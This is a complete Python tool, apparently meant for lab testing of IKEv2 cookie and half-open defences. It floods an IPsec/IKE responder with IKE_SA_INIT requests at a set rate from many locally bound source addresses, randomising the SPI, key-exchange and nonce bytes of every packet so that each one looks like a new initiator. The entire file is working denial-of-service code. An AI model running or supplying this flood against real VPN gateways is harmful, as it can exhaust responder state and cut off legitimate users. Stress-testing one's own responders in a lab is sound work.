#!/usr/bin/env python3
"""IKE_SA_INIT flood: a real IKE_SA_INIT request (a template) sent at a fixed rate from many
source addresses, each copy with a fresh initiator SPI and fresh KE and nonce bytes, so every
packet looks like a new initiator to the responder (RFC 7296 §2.6 is what the responder uses
against it: cookies, half-open limits).

Sources: SOURCES addresses of a prefix this namespace treats as local (e.g. after
`ip route add local 198.18.0.0/16 dev lo`), one socket bound to each; the responder's answers go
back to them and are read and counted by kind (COOKIE, an IKE_SA_INIT answer with SA, an error
notify) when --count-replies is given. Runs for --seconds, paced in 1 ms steps, and prints one
JSON line: packets sent, the rate reached, replies by kind.

Usage: ike-flood.py --target 192.0.2.1:500 --template request.hex --prefix 198.18.0.0 \
           --sources 1000 --rate 20000 --seconds 20 [--count-replies]
"""
import argparse
import ipaddress
import json
import os
import select
import socket
import struct
import sys
import time

# IKE_SA_INIT payload offsets are found by walking the generic payload headers (RFC 7296 §3.2).
KE, NONCE, NOTIFY, SA = 34, 40, 41, 33
COOKIE = 16390


def payloads(msg):
    """(type, offset of its body, body length) of each payload of an unencrypted IKE message."""
    nxt, off, out = msg[16], 28, []
    while nxt != 0 and off + 4 <= len(msg):
        length = struct.unpack_from("!H", msg, off + 2)[0]
        if length < 4 or off + length > len(msg):
            raise ValueError("bad payload length at %d" % off)
        out.append((nxt, off + 4, length - 4))
        nxt, off = msg[off], off + length
    return out


def randomizable(msg):
    """Slices of the template to refill per packet: the KE data and the nonce."""
    spans = []
    for t, body, n in payloads(msg):
        if t == KE:
            spans.append((body + 4, n - 4))  # DH group and reserved first
        elif t == NONCE:
            spans.append((body, n))
    return spans


def reply_kind(data):
    if len(data) < 28:
        return "short"
    try:
        kinds = payloads(data)
    except ValueError:
        return "malformed"
    for t, body, n in kinds:
        if t == NOTIFY and n >= 4:
            notify = struct.unpack_from("!H", data, body + 2)[0]
            if notify == COOKIE:
                return "cookie"
            if notify < 16384:
                return "error_%d" % notify
    if any(t == SA for t, _, _ in kinds):
        return "sa"
    return "other"


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--target", required=True, help="responder HOST:PORT")
    p.add_argument("--template", required=True, help="file with the IKE_SA_INIT request as one line of hex")
    p.add_argument("--prefix", required=True, help="first source address (the range must be local here)")
    p.add_argument("--sources", type=int, default=1000)
    p.add_argument("--rate", type=int, default=20000, help="packets per second")
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--count-replies", action="store_true")
    a = p.parse_args()

    host, port = a.target.rsplit(":", 1)
    target = (host, int(port))
    template = bytearray.fromhex(open(a.template).read().strip())
    spans = randomizable(template)
    first = ipaddress.ip_address(a.prefix)
    socks = []
    for i in range(a.sources):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND: the address is routed here, not on an interface
        s.bind((str(first + i), 0))
        s.setblocking(False)
        socks.append(s)

    # Fresh bytes in bulk: os.urandom per packet would cost more than the send.
    need = 8 + sum(n for _, n in spans)
    pool = os.urandom(need * 4096)
    replies = {}
    poller = select.epoll()
    for s in socks:
        poller.register(s.fileno(), select.EPOLLIN)
    by_fd = {s.fileno(): s for s in socks}
    sent = errors = i = 0
    start = time.monotonic()
    end = start + a.seconds
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * a.rate)
        while i < due:
            msg = template
            r = (i % 4096) * need
            msg[0:8] = pool[r:r + 8]
            r += 8
            for off, n in spans:
                msg[off:off + n] = pool[r:r + n]
                r += n
            try:
                socks[i % len(socks)].sendto(msg, target)
                sent += 1
            except OSError:
                errors += 1
            i += 1
        if a.count_replies:
            for fd, _ in poller.poll(0):
                s = by_fd[fd]
                for _ in range(64):
                    try:
                        data = s.recv(65535)
                    except BlockingIOError:
                        break
                    k = reply_kind(data)
                    replies[k] = replies.get(k, 0) + 1
        time.sleep(0.001)
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "send_errors": errors, "seconds": round(elapsed, 3),
                      "rate": round(sent / elapsed), "sources": len(socks), "replies": replies}))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
